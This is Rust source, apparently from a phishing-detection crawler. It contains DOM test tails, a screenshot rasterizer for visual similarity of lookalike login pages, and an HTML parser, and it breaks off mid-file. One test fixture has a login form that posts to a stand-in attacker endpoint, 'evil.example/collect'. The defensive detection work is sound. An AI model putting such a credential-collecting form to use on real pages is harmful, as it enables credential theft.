        assert!(urls.contains(&"https://cdn.example/style.css".to_string()));
        assert!(urls.contains(&"https://embed.example/frame".to_string()));
        assert!(urls.contains(&"https://cdn.example/fp.js".to_string()));
    }

    #[test]
    fn forms_and_password_detection() {
        let doc = Document::parse(PAGE);
        assert_eq!(doc.form_actions(), ["https://evil.example/collect"]);
        assert!(doc.has_password_field());
        assert!(!Document::parse("<p>no form</p>").has_password_field());
    }

    #[test]
    fn inline_scripts_exclude_external() {
        let doc = Document::parse(PAGE);
        let scripts = doc.inline_scripts();
        assert_eq!(scripts.len(), 1);
        assert!(scripts[0].contains("inline one"));
    }

    #[test]
    fn meta_refresh_parsing() {
        let doc = Document::parse(PAGE);
        assert_eq!(doc.meta_refresh_url().as_deref(), Some("https://next.example/hop"));
        assert_eq!(Document::parse("<p>x</p>").meta_refresh_url(), None);
    }

    #[test]
    fn visible_text_skips_scripts_and_styles() {
        let doc = Document::parse(PAGE);
        let text = doc.visible_text();
        assert!(text.contains("Welcome back"));
        assert!(!text.contains("inline one"));
        assert!(!text.contains("color: blue"));
    }

    #[test]
    fn element_by_id() {
        let doc = Document::parse(PAGE);
        assert_eq!(doc.element_by_id("logo").unwrap().attr("src").unwrap(), "https://corp.example/logo.png");
        assert!(doc.element_by_id("missing").is_none());
    }
}
