//! Deterministic page rasterizer: DOM → screenshot bitmap.
//!
//! CrawlerBox screenshots every loaded page and classifies spear phishing
//! by visual similarity (§V-A). The rasterizer implements a simple block
//! layout — elements stack vertically, inputs render as light gray field
//! boxes, buttons as filled bars, headers as brand bands — which is enough
//! for lookalike login pages to hash close to their originals and for
//! different layouts to hash far apart. It honours inline
//! `background-color` styles and the document-level `hue-rotate` filter the
//! attackers inject (§V-C2 d).

use crate::dom::Document;
use crate::html::Node;
use cb_artifacts::{Bitmap, Rgb};
use std::collections::HashMap;

/// Vertical advance per rendered block row.
const ROW_H: usize = 14;
/// Left margin for content.
const MARGIN: usize = 8;

/// Parse `#rrggbb`, `#rgb`, or `rgb(r, g, b)` — entirely on borrowed
/// slices, with no intermediate `String`. Named colors are out of scope
/// and return `None`.
fn parse_color(s: &str) -> Option<Rgb> {
    let s = s.trim();
    if let Some(hex) = s.strip_prefix('#') {
        return match hex.len() {
            6 => {
                let v = u32::from_str_radix(hex, 16).ok()?;
                Some(Rgb::new((v >> 16) as u8, (v >> 8) as u8, v as u8))
            }
            3 => {
                let v = u32::from_str_radix(hex, 16).ok()?;
                let (r, g, b) = ((v >> 8) & 0xF, (v >> 4) & 0xF, v & 0xF);
                Some(Rgb::new((r * 17) as u8, (g * 17) as u8, (b * 17) as u8))
            }
            _ => None,
        };
    }
    let body = s.strip_prefix("rgb(")?.strip_suffix(')')?;
    let mut channels = body.split(',');
    let r = channels.next()?.trim().parse::<u8>().ok()?;
    let g = channels.next()?.trim().parse::<u8>().ok()?;
    let b = channels.next()?.trim().parse::<u8>().ok()?;
    if channels.next().is_some() {
        return None;
    }
    Some(Rgb::new(r, g, b))
}

/// Extract `background-color` from an inline style attribute.
fn style_bg(style: &str) -> Option<Rgb> {
    for decl in style.split(';') {
        let (k, v) = decl.split_once(':')?;
        if k.trim().eq_ignore_ascii_case("background-color") {
            return parse_color(v);
        }
    }
    None
}

/// Extract a `hue-rotate(Ndeg)` filter from a style attribute.
fn style_hue_rotate(style: &str) -> Option<f64> {
    let idx = style.find("hue-rotate(")?;
    let rest = &style[idx + "hue-rotate(".len()..];
    let end = rest.find(')')?;
    rest[..end].trim().trim_end_matches("deg").trim().parse().ok()
}

/// Render `doc` to a `width`×`height` screenshot.
pub fn rasterize(doc: &Document, width: usize, height: usize) -> Bitmap {
    let mut img = Bitmap::new(width, height, Rgb::WHITE);
    let mut y = MARGIN;
    // Inline styles repeat heavily across a page (every input in a form,
    // every cell in a brand band tends to carry the identical attribute),
    // so background-color extraction is memoized per raster pass, keyed by
    // the borrowed style string.
    let mut bg_cache: HashMap<&str, Option<Rgb>> = HashMap::new();
    for root in doc.roots() {
        render_node(root, &mut img, &mut y, width, &mut bg_cache);
    }
    // Document-level filter: a hue-rotate style on <html> or <body> rotates
    // the final screenshot (the §V-C2(d) trick).
    for tag in ["html", "body"] {
        if let Some(style) = doc.elements(tag).first().and_then(|n| n.attr("style")) {
            if let Some(deg) = style_hue_rotate(style) {
                return img.hue_rotate(deg);
            }
        }
    }
    img
}

fn render_node<'a>(
    node: &'a Node,
    img: &mut Bitmap,
    y: &mut usize,
    width: usize,
    bg_cache: &mut HashMap<&'a str, Option<Rgb>>,
) {
    if *y >= img.height() {
        return;
    }
    match node {
        Node::Text(text) => {
            let trimmed = text.trim();
            if !trimmed.is_empty() {
                img.draw_text(MARGIN, *y, trimmed, 1, Rgb::BLACK);
                *y += ROW_H;
            }
        }
        Node::Element {
            tag,
            attrs,
            children,
        } => {
            let bg = match attrs.get("style") {
                Some(style) => *bg_cache
                    .entry(style.as_str())
                    .or_insert_with(|| style_bg(style)),
                None => None,
            };
            match tag.as_str() {
                "script" | "style" | "head" | "title" | "meta" | "link" => {
                    // invisible; <head> children like <title> do not paint
                }
                "header" | "h1" | "h2" => {
                    let color = bg.unwrap_or(Rgb::new(0, 60, 180));
                    img.fill_rect(0, *y, width, ROW_H, color);
                    let label = node.text_content();
                    if !label.trim().is_empty() {
                        img.draw_text(MARGIN, *y + 3, label.trim(), 1, Rgb::WHITE);
                    }
                    *y += ROW_H + 4;
                }
                "input" => {
                    let is_button = matches!(
                        attrs.get("type").map(String::as_str),
                        Some("submit") | Some("button")
                    );
                    if is_button {
                        img.fill_rect(MARGIN + 20, *y, width / 3, ROW_H - 2, bg.unwrap_or(Rgb::new(0, 60, 180)));
                    } else {
                        img.fill_rect(MARGIN, *y, width - 2 * MARGIN, ROW_H - 4, bg.unwrap_or(Rgb::new(224, 224, 224)));
                    }
                    *y += ROW_H;
                }
                "button" => {
                    img.fill_rect(MARGIN + 20, *y, width / 3, ROW_H - 2, bg.unwrap_or(Rgb::new(0, 60, 180)));
                    *y += ROW_H;
                }
                "img" => {
                    // placeholder box where the (possibly hotlinked) image sits
                    img.fill_rect(MARGIN, *y, 48, ROW_H * 2 - 4, bg.unwrap_or(Rgb::new(180, 190, 210)));
                    *y += ROW_H * 2;
                }
                "hr" => {
                    img.fill_rect(MARGIN, *y + ROW_H / 2, width - 2 * MARGIN, 1, Rgb::new(120, 120, 120));
                    *y += ROW_H / 2 + 2;
                }
                "br" => {
                    *y += ROW_H / 2;
                }
                _ => {
                    if let Some(color) = bg {
                        // colored block background sized by its content
                        let block_top = *y;
                        let mut inner_y = *y + 2;
                        for c in children {
                            render_node(c, img, &mut inner_y, width, bg_cache);
                        }
                        let block_h = (inner_y - block_top).max(ROW_H);
                        // paint behind: cheap approach — repaint band then content
                        img.fill_rect(0, block_top, width, 2, color);
                        img.fill_rect(0, block_top + block_h - 2, width, 2, color);
                        *y = inner_y + 2;
                        return;
                    }
                    for c in children {
                        render_node(c, img, y, width, bg_cache);
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_imagehash::HashPair;

    const LOGIN: &str = r#"
      <html><body>
        <header>Corp Portal</header>
        <img src="https://corp.example/logo.png">
        <form action="/collect">
          <input type="text" name="u">
          <input type="password" name="p">
          <input type="submit" value="Sign in">
        </form>
      </body></html>
    "#;

    #[test]
    fn render_is_deterministic() {
        let doc = Document::parse(LOGIN);
        assert_eq!(rasterize(&doc, 320, 200), rasterize(&doc, 320, 200));
    }

    #[test]
    fn lookalike_hashes_close_to_original() {
        let original = rasterize(&Document::parse(LOGIN), 320, 200);
        // attacker page: same structure, extra noise text at the bottom
        let lookalike_html = LOGIN.replace("</body>", "<p>victim@corp.example</p></body>");
        let lookalike = rasterize(&Document::parse(&lookalike_html), 320, 200);
        let a = HashPair::of(&original);
        let b = HashPair::of(&lookalike);
        assert!(a.similar_to(&b, 12), "distance {}", a.distance(&b));
    }

    #[test]
    fn different_page_hashes_far() {
        let login = rasterize(&Document::parse(LOGIN), 320, 200);
        let article = rasterize(
            &Document::parse(
                "<body><p>one</p><p>two</p><p>three</p><p>four</p><p>five</p><p>six</p><p>seven</p><p>eight</p></body>",
            ),
            320,
            200,
        );
        let a = HashPair::of(&login);
        let b = HashPair::of(&article);
        assert!(a.distance(&b) > 12, "distance {}", a.distance(&b));
    }

    #[test]
    fn hue_rotate_filter_applies() {
        let plain = rasterize(&Document::parse(LOGIN), 320, 200);
        let rotated_html = LOGIN.replace("<body>", r#"<body style="filter: hue-rotate(4deg)">"#);
        let rotated = rasterize(&Document::parse(&rotated_html), 320, 200);
        assert_ne!(plain, rotated, "pixels must differ");
        // but hashes survive (the paper's point)
        let a = HashPair::of(&plain);
        let b = HashPair::of(&rotated);
        assert!(a.similar_to(&b, 8), "distance {}", a.distance(&b));
    }

    #[test]
    fn color_parsing() {
        assert_eq!(parse_color("#ff0080"), Some(Rgb::new(255, 0, 128)));
        assert_eq!(parse_color("#fff"), Some(Rgb::new(255, 255, 255)));
        assert_eq!(parse_color("red"), None);
        assert_eq!(parse_color("rgb(255, 0, 128)"), Some(Rgb::new(255, 0, 128)));
        assert_eq!(parse_color(" rgb(1,2,3) "), Some(Rgb::new(1, 2, 3)));
        assert_eq!(parse_color("rgb(1,2)"), None);
        assert_eq!(parse_color("rgb(1,2,3,4)"), None);
        assert_eq!(parse_color("rgb(256,0,0)"), None);
        assert_eq!(style_bg("background-color: #102030; x: y"), Some(Rgb::new(0x10, 0x20, 0x30)));
        assert_eq!(style_bg("background-color: rgb(16, 32, 48)"), Some(Rgb::new(0x10, 0x20, 0x30)));
        assert_eq!(style_hue_rotate("filter: hue-rotate(4deg)"), Some(4.0));
        assert_eq!(style_hue_rotate("color: red"), None);
    }

    #[test]
    fn text_renders_at_margin() {
        let doc = Document::parse("<p>HELLO</p>");
        let img = rasterize(&doc, 120, 40);
        // glyph ink present at the margin
        let mut found = false;
        for y in 0..20 {
            for x in 0..60 {
                if img.get(x, y) == Rgb::BLACK {
                    found = true;
                }
            }
        }
        assert!(found);
    }

    #[test]
    fn head_content_is_invisible() {
        let with_head = rasterize(
            &Document::parse("<head><title>SECRET TITLE</title></head><body><p>X</p></body>"),
            200,
            60,
        );
        let without = rasterize(&Document::parse("<body><p>X</p></body>"), 200, 60);
        assert_eq!(with_head, without);
    }
}
