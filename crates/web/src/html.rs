//! A practical HTML parser: tags with attributes, text nodes, raw-text
//! elements (`<script>`, `<style>`), comments, void elements, and the
//! tag-soup leniency real phishing pages demand.
//!
//! The tokenizer is byte-driven: a 256-entry class table
//! ([`CLASS`]) classifies every byte once (whitespace, tag-name,
//! attribute-delimiter, unquoted-value terminator), scans run over byte
//! slices with a SWAR `find_byte`, and tag names / attribute values stay
//! borrowed spans until a node is materialized. The pre-LUT char-by-char
//! implementation is kept verbatim in [`reference`] as the differential
//! oracle and the micro-bench "before" arm; `parse_fragment` must agree
//! with it bit-for-bit on any input.

use std::borrow::Cow;
use std::collections::BTreeMap;

/// A DOM node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Node {
    /// An element with attributes and children.
    Element {
        /// Lowercased tag name.
        tag: String,
        /// Lowercased attribute names → unquoted values.
        attrs: BTreeMap<String, String>,
        /// Child nodes in document order.
        children: Vec<Node>,
    },
    /// A text run.
    Text(String),
}

impl Node {
    /// Element accessor: `(tag, attrs, children)` or `None` for text.
    pub fn as_element(&self) -> Option<(&str, &BTreeMap<String, String>, &[Node])> {
        match self {
            Node::Element {
                tag,
                attrs,
                children,
            } => Some((tag, attrs, children)),
            Node::Text(_) => None,
        }
    }

    /// Attribute value, for elements.
    pub fn attr(&self, name: &str) -> Option<&str> {
        match self {
            Node::Element { attrs, .. } => attrs.get(name).map(String::as_str),
            Node::Text(_) => None,
        }
    }

    /// Concatenated descendant text.
    ///
    /// Borrows when no concatenation is needed (a text node, or an element
    /// with at most one text-bearing child) — the dominant DOM shape, so
    /// most calls allocate nothing.
    pub fn text_content(&self) -> Cow<'_, str> {
        match self {
            Node::Text(t) => Cow::Borrowed(t),
            Node::Element { children, .. } => match children.len() {
                0 => Cow::Borrowed(""),
                1 => children[0].text_content(),
                _ => {
                    let mut out = String::new();
                    for c in children {
                        out.push_str(&c.text_content());
                    }
                    Cow::Owned(out)
                }
            },
        }
    }
}

/// Elements that never have children.
const VOID_ELEMENTS: &[&str] = &[
    "img", "input", "br", "hr", "meta", "link", "area", "base", "col", "embed", "source",
    "track", "wbr",
];

/// Elements whose content is raw text until the matching close tag.
const RAW_TEXT_ELEMENTS: &[&str] = &["script", "style"];

// Byte classes for the lookup-table tokenizer. A byte may carry several
// classes; scans test one mask per byte instead of chained comparisons.
/// ASCII whitespace (space, `\t`, `\n`, form feed, `\r`).
const C_WS: u8 = 1 << 0;
/// Terminates an attribute name: whitespace, `=`, `>`, `/`.
const C_NAME_END: u8 = 1 << 1;
/// Terminates an unquoted attribute value: whitespace, `>`.
const C_UNQUOTED_END: u8 = 1 << 2;
/// Tag-name byte: ASCII alphanumeric or `-`.
const C_TAG_NAME: u8 = 1 << 3;

/// The 256-entry byte class table driving tokenizer state transitions.
static CLASS: [u8; 256] = build_class();

const fn build_class() -> [u8; 256] {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        if matches!(b, b' ' | b'\t' | b'\n' | b'\x0C' | b'\r') {
            t[i] |= C_WS | C_NAME_END | C_UNQUOTED_END;
        }
        if matches!(b, b'=' | b'/') {
            t[i] |= C_NAME_END;
        }
        if b == b'>' {
            t[i] |= C_NAME_END | C_UNQUOTED_END;
        }
        if b.is_ascii_alphanumeric() || b == b'-' {
            t[i] |= C_TAG_NAME;
        }
        i += 1;
    }
    t
}

/// First index `>= i` whose byte is NOT in `class` (i.e. end of a run).
#[inline]
fn scan_class_run(bytes: &[u8], mut i: usize, class: u8) -> usize {
    while i < bytes.len() && CLASS[bytes[i] as usize] & class != 0 {
        i += 1;
    }
    i
}

/// First index `>= i` whose byte IS in `class`.
#[inline]
fn scan_to_class(bytes: &[u8], mut i: usize, class: u8) -> usize {
    while i < bytes.len() && CLASS[bytes[i] as usize] & class == 0 {
        i += 1;
    }
    i
}

/// Find the first occurrence of `needle` in `haystack[from..]`, scanning
/// eight bytes per step with a SWAR zero-byte test.
#[inline]
fn find_byte(haystack: &[u8], needle: u8, from: usize) -> Option<usize> {
    const LO: u64 = 0x0101_0101_0101_0101;
    const HI: u64 = 0x8080_8080_8080_8080;
    let spread = LO.wrapping_mul(needle as u64);
    let mut i = from;
    while i + 8 <= haystack.len() {
        let w = u64::from_le_bytes(haystack[i..i + 8].try_into().expect("8-byte chunk"));
        let x = w ^ spread;
        let hit = x.wrapping_sub(LO) & !x & HI;
        if hit != 0 {
            return Some(i + (hit.trailing_zeros() / 8) as usize);
        }
        i += 8;
    }
    while i < haystack.len() {
        if haystack[i] == needle {
            return Some(i);
        }
        i += 1;
    }
    None
}

/// Substring search built on [`find_byte`] (first-byte skip loop).
#[inline]
fn find_str(haystack: &str, needle: &str, from: usize) -> Option<usize> {
    let h = haystack.as_bytes();
    let n = needle.as_bytes();
    let first = match n.first() {
        Some(&b) => b,
        None => return Some(from.min(h.len())),
    };
    let mut i = from;
    while let Some(p) = find_byte(h, first, i) {
        if p + n.len() > h.len() {
            return None;
        }
        if &h[p..p + n.len()] == n {
            return Some(p);
        }
        i = p + 1;
    }
    None
}

/// Case-insensitive search for `</tag` (ASCII `tag`) starting at `from`.
/// Matches anywhere, with no word-boundary requirement — `</scripty>`
/// terminates a `<script>` raw-text run, exactly like the reference
/// parser's lowercase-the-remainder-and-`find` approach.
#[inline]
fn find_close_ci(haystack: &[u8], tag: &str, from: usize) -> Option<usize> {
    let t = tag.as_bytes();
    let mut i = from;
    while let Some(p) = find_byte(haystack, b'<', i) {
        if p + 2 + t.len() <= haystack.len()
            && haystack[p + 1] == b'/'
            && haystack[p + 2..p + 2 + t.len()].eq_ignore_ascii_case(t)
        {
            return Some(p);
        }
        i = p + 1;
    }
    None
}

/// Parse an HTML fragment into a node list. Never fails: unclosed tags are
/// closed at end of input, stray close tags are ignored — the leniency of a
/// real browser.
pub fn parse_fragment(input: &str) -> Vec<Node> {
    let mut parser = HtmlParser { input, pos: 0 };
    parser.parse_nodes(&[])
}

struct HtmlParser<'a> {
    input: &'a str,
    pos: usize,
}

impl<'a> HtmlParser<'a> {
    fn rest(&self) -> &'a str {
        &self.input[self.pos..]
    }

    fn starts_with(&self, s: &str) -> bool {
        self.rest().starts_with(s)
    }

    /// Parse sibling nodes until one of `stop_tags` closes (or input ends).
    fn parse_nodes(&mut self, stop_tags: &[&str]) -> Vec<Node> {
        let mut nodes = Vec::new();
        loop {
            if self.pos >= self.input.len() {
                return nodes;
            }
            // Close tag for an ancestor?
            if self.starts_with("</") {
                let save = self.pos;
                if let Some(name) = self.peek_close_tag() {
                    if stop_tags.iter().any(|s| name.eq_ignore_ascii_case(s)) {
                        // leave for the caller to consume
                        self.pos = save;
                        return nodes;
                    }
                    // stray close tag: consume and ignore
                    self.consume_close_tag();
                    continue;
                }
                // "</" not followed by a name: treat as text
            }
            if self.starts_with("<!--") {
                if let Some(end) = find_str(self.input, "-->", self.pos) {
                    self.pos = end + 3;
                } else {
                    self.pos = self.input.len();
                }
                continue;
            }
            if self.starts_with("<!") {
                // doctype or similar: skip to '>'
                match find_byte(self.input.as_bytes(), b'>', self.pos) {
                    Some(end) => self.pos = end + 1,
                    None => self.pos = self.input.len(),
                }
                continue;
            }
            if self.starts_with("<") && self.rest().len() > 1 {
                let after = self.rest().as_bytes()[1];
                if after.is_ascii_alphabetic() {
                    nodes.push(self.parse_element(stop_tags));
                    continue;
                }
            }
            // Text until next '<'
            let end = find_byte(self.input.as_bytes(), b'<', self.pos)
                .unwrap_or(self.input.len());
            let text = &self.input[self.pos..end.max(self.pos + 1).min(self.input.len())];
            // (the max() handles a lone '<' at end of input)
            self.pos += text.len();
            if !text.trim().is_empty() {
                nodes.push(Node::Text(decode_entities(text).into_owned()));
            }
        }
    }

    /// The trimmed close-tag name at the cursor, as a borrowed span (the
    /// reference parser allocated a lowercased `String` per peek). Callers
    /// compare case-insensitively.
    fn peek_close_tag(&self) -> Option<&'a str> {
        let rest = self.rest().strip_prefix("</")?;
        let end = find_byte(rest.as_bytes(), b'>', 0)?;
        let name = rest[..end].trim();
        if name.is_empty() || !name.as_bytes()[0].is_ascii_alphabetic() {
            None
        } else {
            Some(name)
        }
    }

    fn consume_close_tag(&mut self) {
        if let Some(end) = find_byte(self.input.as_bytes(), b'>', self.pos) {
            self.pos = end + 1;
        } else {
            self.pos = self.input.len();
        }
    }

    fn parse_element(&mut self, stop_tags: &[&str]) -> Node {
        // at '<' followed by a letter
        self.pos += 1;
        let bytes = self.input.as_bytes();
        let name_end = scan_class_run(bytes, self.pos, C_TAG_NAME);
        let tag = self.input[self.pos..name_end].to_ascii_lowercase();
        self.pos = name_end;

        let (attrs, self_closed) = self.parse_attrs();

        if self_closed || VOID_ELEMENTS.contains(&tag.as_str()) {
            return Node::Element {
                tag,
                attrs,
                children: Vec::new(),
            };
        }

        if RAW_TEXT_ELEMENTS.contains(&tag.as_str()) {
            let content_start = self.pos;
            let content_end =
                find_close_ci(bytes, &tag, content_start).unwrap_or(self.input.len());
            let content = &self.input[content_start..content_end];
            self.pos = content_end;
            self.consume_close_tag();
            let children = if content.trim().is_empty() {
                Vec::new()
            } else {
                vec![Node::Text(content.to_string())]
            };
            return Node::Element {
                tag,
                attrs,
                children,
            };
        }

        // Regular element: parse children until our close tag.
        let mut inner_stops: Vec<&str> = stop_tags.to_vec();
        let tag_owned = tag.clone();
        inner_stops.push(&tag_owned);
        let children = self.parse_nodes(&inner_stops);
        // consume our close tag if it is the one present
        if let Some(name) = self.peek_close_tag() {
            if name.eq_ignore_ascii_case(&tag) {
                self.consume_close_tag();
            }
        }
        Node::Element {
            tag,
            attrs,
            children,
        }
    }

    /// Parse attributes up to and including the closing `>` (or `/>`).
    /// Returns `(attrs, self_closed)`.
    fn parse_attrs(&mut self) -> (BTreeMap<String, String>, bool) {
        let mut attrs = BTreeMap::new();
        let bytes = self.input.as_bytes();
        loop {
            self.pos = scan_class_run(bytes, self.pos, C_WS);
            if self.starts_with("/>") {
                self.pos += 2;
                return (attrs, true);
            }
            if self.starts_with(">") {
                self.pos += 1;
                return (attrs, false);
            }
            if self.pos >= self.input.len() {
                return (attrs, false);
            }
            // attribute name
            let name_end = scan_to_class(bytes, self.pos, C_NAME_END);
            if name_end == self.pos {
                // stray character; skip it
                self.pos += 1;
                continue;
            }
            let name = self.input[self.pos..name_end].to_ascii_lowercase();
            self.pos = name_end;
            // optional = value
            self.pos = scan_class_run(bytes, self.pos, C_WS);
            let value: &str = if self.starts_with("=") {
                self.pos += 1;
                self.pos = scan_class_run(bytes, self.pos, C_WS);
                let rest = self.rest();
                if rest.starts_with('"') || rest.starts_with('\'') {
                    let quote = rest.as_bytes()[0];
                    let inner = &rest[1..];
                    let end = find_byte(inner.as_bytes(), quote, 0).unwrap_or(inner.len());
                    let v = &inner[..end];
                    self.pos += 1 + end + 1.min(inner.len() - end);
                    v
                } else {
                    let end = scan_to_class(bytes, self.pos, C_UNQUOTED_END);
                    let v = &self.input[self.pos..end];
                    self.pos = end;
                    v
                }
            } else {
                ""
            };
            attrs.insert(name, decode_entities(value).into_owned());
        }
    }
}

/// Decode the handful of entities that matter for URL and text extraction.
///
/// Borrows the input untouched when it contains no `&` — the overwhelmingly
/// common case for attribute values and text runs — so the parser's hot
/// path allocates only when a transformation actually happens.
pub fn decode_entities(s: &str) -> Cow<'_, str> {
    if !s.contains('&') {
        return Cow::Borrowed(s);
    }
    Cow::Owned(
        s.replace("&amp;", "&")
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&quot;", "\"")
            .replace("&#39;", "'")
            .replace("&nbsp;", " "),
    )
}

/// One event of the zero-copy token stream ([`tokenize`]). Every payload is
/// a raw borrowed span: tag and attribute names keep their wire case (use
/// `eq_ignore_ascii_case` to match), values and text are entity-undecoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Token<'a> {
    /// A non-whitespace text run (raw, entities not decoded).
    Text(&'a str),
    /// `<name` — start of an open tag; attribute events follow.
    Open(&'a str),
    /// One attribute inside the current open tag; `value` is `None` for
    /// bare attributes and raw (unquoted span, undecoded) otherwise.
    Attr {
        /// Attribute name, wire case.
        name: &'a str,
        /// Raw value span, if `=` was present.
        value: Option<&'a str>,
    },
    /// End of the current open tag (`>` or `/>`).
    OpenEnd {
        /// Whether the tag ended with `/>`.
        self_closing: bool,
    },
    /// `</name>` — close tag (name trimmed, wire case).
    Close(&'a str),
    /// `<!-- ... -->` interior.
    Comment(&'a str),
    /// `<! ... >` interior (doctype and friends).
    Doctype(&'a str),
    /// Raw text content of a `<script>`/`<style>` element.
    RawText(&'a str),
}

/// Tokenize an HTML fragment as a flat, allocation-free event stream.
///
/// This is the streaming face of the LUT tokenizer: the tree parser
/// ([`parse_fragment`]) layers recovery and materialization on the same
/// primitives, while `tokenize` exposes the spans directly for scanners
/// that only need to *look* (URL extraction, feature counting) — and for
/// the micro-bench allocation assertion, since iterating it performs no
/// heap allocation at all.
pub fn tokenize(input: &str) -> Tokens<'_> {
    Tokens {
        input,
        pos: 0,
        state: TokState::Data,
    }
}

#[derive(Debug, Clone, Copy)]
enum TokState {
    Data,
    /// Inside an open tag; payload is the span of the tag name.
    InTag { name: (usize, usize) },
    /// After an open tag of a raw-text element.
    Raw { name: (usize, usize) },
}

/// Iterator returned by [`tokenize`].
#[derive(Debug, Clone)]
pub struct Tokens<'a> {
    input: &'a str,
    pos: usize,
    state: TokState,
}

impl<'a> Tokens<'a> {
    fn next_data(&mut self) -> Option<Token<'a>> {
        let input = self.input;
        let bytes = input.as_bytes();
        loop {
            if self.pos >= input.len() {
                return None;
            }
            let rest = &input[self.pos..];
            if let Some(after) = rest.strip_prefix("</") {
                if let Some(end) = find_byte(after.as_bytes(), b'>', 0) {
                    let name = after[..end].trim();
                    if !name.is_empty() && name.as_bytes()[0].is_ascii_alphabetic() {
                        self.pos += 2 + end + 1;
                        return Some(Token::Close(name));
                    }
                }
                // malformed close: fall through to the text path
            } else if let Some(after) = rest.strip_prefix("<!--") {
                let (body, next) = match find_str(input, "-->", self.pos + 4) {
                    Some(end) => (&input[self.pos + 4..end], end + 3),
                    None => (after, input.len()),
                };
                self.pos = next;
                return Some(Token::Comment(body));
            } else if rest.starts_with("<!") {
                let (body, next) = match find_byte(bytes, b'>', self.pos + 2) {
                    Some(end) => (&input[self.pos + 2..end], end + 1),
                    None => (&input[self.pos + 2..], input.len()),
                };
                self.pos = next;
                return Some(Token::Doctype(body));
            } else if rest.len() > 1
                && rest.as_bytes()[0] == b'<'
                && rest.as_bytes()[1].is_ascii_alphabetic()
            {
                let name_end = scan_class_run(bytes, self.pos + 1, C_TAG_NAME);
                let name = (self.pos + 1, name_end);
                self.pos = name_end;
                self.state = TokState::InTag { name };
                return Some(Token::Open(&input[name.0..name.1]));
            }
            // Text until next '<' (same lone-'<' handling as the parser).
            let end = find_byte(bytes, b'<', self.pos).unwrap_or(input.len());
            let text = &input[self.pos..end.max(self.pos + 1).min(input.len())];
            self.pos += text.len();
            if !text.trim().is_empty() {
                return Some(Token::Text(text));
            }
        }
    }

    fn next_in_tag(&mut self, name: (usize, usize)) -> Option<Token<'a>> {
        let input = self.input;
        let bytes = input.as_bytes();
        self.pos = scan_class_run(bytes, self.pos, C_WS);
        loop {
            let rest = &input[self.pos..];
            if rest.starts_with("/>") {
                self.pos += 2;
                self.state = TokState::Data;
                return Some(Token::OpenEnd { self_closing: true });
            }
            if rest.starts_with('>') || rest.is_empty() {
                if !rest.is_empty() {
                    self.pos += 1;
                }
                let tag = &input[name.0..name.1];
                self.state = if RAW_TEXT_ELEMENTS
                    .iter()
                    .any(|r| tag.eq_ignore_ascii_case(r))
                {
                    TokState::Raw { name }
                } else {
                    TokState::Data
                };
                return Some(Token::OpenEnd {
                    self_closing: false,
                });
            }
            let name_end = scan_to_class(bytes, self.pos, C_NAME_END);
            if name_end == self.pos {
                // stray character; skip it
                self.pos += 1;
                self.pos = scan_class_run(bytes, self.pos, C_WS);
                continue;
            }
            let attr_name = &input[self.pos..name_end];
            self.pos = scan_class_run(bytes, name_end, C_WS);
            let value = if input[self.pos..].starts_with('=') {
                self.pos = scan_class_run(bytes, self.pos + 1, C_WS);
                let rest = &input[self.pos..];
                if rest.starts_with('"') || rest.starts_with('\'') {
                    let quote = rest.as_bytes()[0];
                    let inner = &rest[1..];
                    let end = find_byte(inner.as_bytes(), quote, 0).unwrap_or(inner.len());
                    let v = &inner[..end];
                    self.pos += 1 + end + 1.min(inner.len() - end);
                    Some(v)
                } else {
                    let end = scan_to_class(bytes, self.pos, C_UNQUOTED_END);
                    let v = &input[self.pos..end];
                    self.pos = end;
                    Some(v)
                }
            } else {
                None
            };
            self.pos = scan_class_run(bytes, self.pos, C_WS);
            return Some(Token::Attr {
                name: attr_name,
                value,
            });
        }
    }

    fn next_raw(&mut self, name: (usize, usize)) -> Option<Token<'a>> {
        let input = self.input;
        let tag = &input[name.0..name.1];
        let close = find_close_ci(input.as_bytes(), tag, self.pos);
        let content_end = close.unwrap_or(input.len());
        let content = &input[self.pos..content_end];
        self.pos = content_end;
        self.state = TokState::Data;
        if content.is_empty() {
            self.next_data()
        } else {
            Some(Token::RawText(content))
        }
    }
}

impl<'a> Iterator for Tokens<'a> {
    type Item = Token<'a>;

    fn next(&mut self) -> Option<Token<'a>> {
        match self.state {
            TokState::Data => self.next_data(),
            TokState::InTag { name } => self.next_in_tag(name),
            TokState::Raw { name } => self.next_raw(name),
        }
    }
}

/// The pre-LUT char-by-char parser, kept verbatim as the differential
/// oracle for `parse_fragment` and the "before" arm of the `html_tokenize`
/// micro-bench. Do not improve it — its value is behavioural identity with
/// the historical implementation.
#[doc(hidden)]
pub mod reference {
    use super::{decode_entities, Node, RAW_TEXT_ELEMENTS, VOID_ELEMENTS};
    use std::collections::BTreeMap;

    /// The original `parse_fragment`.
    pub fn parse_fragment(input: &str) -> Vec<Node> {
        let mut parser = HtmlParser { input, pos: 0 };
        parser.parse_nodes(&[])
    }

    struct HtmlParser<'a> {
        input: &'a str,
        pos: usize,
    }

    impl<'a> HtmlParser<'a> {
        fn rest(&self) -> &'a str {
            &self.input[self.pos..]
        }

        fn starts_with(&self, s: &str) -> bool {
            self.rest().starts_with(s)
        }

        fn parse_nodes(&mut self, stop_tags: &[&str]) -> Vec<Node> {
            let mut nodes = Vec::new();
            loop {
                if self.pos >= self.input.len() {
                    return nodes;
                }
                if self.starts_with("</") {
                    let save = self.pos;
                    if let Some(name) = self.peek_close_tag() {
                        if stop_tags.contains(&name.as_str()) {
                            self.pos = save;
                            return nodes;
                        }
                        self.consume_close_tag();
                        continue;
                    }
                }
                if self.starts_with("<!--") {
                    if let Some(end) = self.rest().find("-->") {
                        self.pos += end + 3;
                    } else {
                        self.pos = self.input.len();
                    }
                    continue;
                }
                if self.starts_with("<!") {
                    match self.rest().find('>') {
                        Some(end) => self.pos += end + 1,
                        None => self.pos = self.input.len(),
                    }
                    continue;
                }
                if self.starts_with("<") && self.rest().len() > 1 {
                    let after = self.rest().as_bytes()[1];
                    if after.is_ascii_alphabetic() {
                        nodes.push(self.parse_element(stop_tags));
                        continue;
                    }
                }
                let end = self
                    .rest()
                    .find('<')
                    .map(|i| self.pos + i)
                    .unwrap_or(self.input.len());
                let text = &self.input[self.pos..end.max(self.pos + 1).min(self.input.len())];
                self.pos += text.len();
                if !text.trim().is_empty() {
                    nodes.push(Node::Text(decode_entities(text).into_owned()));
                }
            }
        }

